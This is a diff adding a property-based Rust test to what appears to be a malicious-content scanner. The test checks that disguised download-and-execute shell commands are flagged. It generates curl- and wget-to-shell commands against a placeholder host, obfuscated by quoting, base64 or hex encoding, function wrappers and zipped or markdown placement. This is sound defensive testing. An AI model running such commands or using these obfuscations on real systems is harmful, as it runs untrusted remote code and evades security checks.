@@ -249,6 +249,47 @@ proptest! {
         prop_assert_ne!(file("a.py", text), Verdict::Allow);
     }
 
+    /// Several disguises over each other: how the command is spelt, what it is wrapped in, where it
+    /// stands.
+    #[test]
+    fn disguises_over_disguises_are_seen_through(
+        spelling in 0usize..8,
+        wrapping in prop::collection::vec(0usize..7, 0..3),
+        place in 0usize..6,
+        word in "[a-z]{3,7}",
+        noise in prop::collection::vec("# [a-z ]{4,30}", 0..20),
+    ) {
+        let command = match spelling {
+            0 => format!("curl -s {HOST} | sh"),
+            1 => format!("c'u'rl -s {HOST} | s\\h"),
+            2 => format!("{word}=curl; ${word} -s {HOST} | bash"),
+            3 => format!("{word}() {{ curl -s {HOST}; }}; {word} | sh"),
+            4 => format!("wget -qO- {HOST} | sudo -E bash"),
+            5 => format!("bash <(curl -s {HOST})"),
+            6 => format!("curl -so /tmp/{word} {HOST}; chmod +x /tmp/{word}; /tmp/{word}"),
+            _ => format!("eval \"$(curl -s {HOST})\""),
+        };
+        let wrapped = wrapping.iter().fold(command, |inner, how| match how {
+            0 => format!("echo {} | base64 -d | sh", b64(&inner)),
+            1 => format!("echo {} | xxd -r -p | bash", hex::encode(&inner)),
+            2 => format!("if [ -n \"$HOME\" ]; then {inner}; fi"),
+            3 => format!("( {inner} ) >/dev/null 2>&1"),
+            4 => format!("{word}_() {{ {inner}; }}; {word}_"),
+            5 => format!("for i in 1; do {inner}; done"),
+            _ => format!("true && {{ {inner}; }}"),
+        });
+        let text = format!("{}\n{wrapped}\n{}\n", noise.join("\n"), noise.join("\n"));
+        let seen = match place {
+            0 => file("a.sh", text),
+            1 => verdict(vec![("bin/tool", format!("#!/bin/sh\n{text}").into_bytes())]),
+            2 => prose(&format!("## Set up\n\n```sh\n{text}```")),
+            3 => verdict(vec![("a.zip", zip_of("in/b.sh", text.as_bytes()))]),
+            4 => verdict(vec![("deep/er/and/deeper/run.bash", text.into_bytes())]),
+            _ => prose(&format!("## Set up\n\n```python\n{text}```\n\n```\n{text}```")),
+        };
+        prop_assert_ne!(seen, Verdict::Allow);
+    }
+
     /// No bytes make it panic.
     #[test]
     fn any_bytes_get_an_answer(bytes in prop::collection::vec(any::<u8>(), 0..2_000), ending in prop::sample::select(vec!["md", "sh", "py", "js", "rb", "go", "ps1", "zip", "json", "applescript", "bat", "bin"])) {
